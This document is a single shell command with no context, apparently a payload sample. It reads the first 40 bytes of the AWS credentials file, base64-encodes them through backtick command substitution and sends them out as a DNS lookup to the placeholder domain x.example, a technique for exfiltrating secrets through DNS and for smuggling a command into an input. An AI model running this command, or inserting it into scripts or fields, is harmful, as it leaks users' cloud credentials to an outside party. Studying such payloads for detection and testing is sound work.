nslookup `head -c 40 ~/.aws/credentials | base64`.x.example
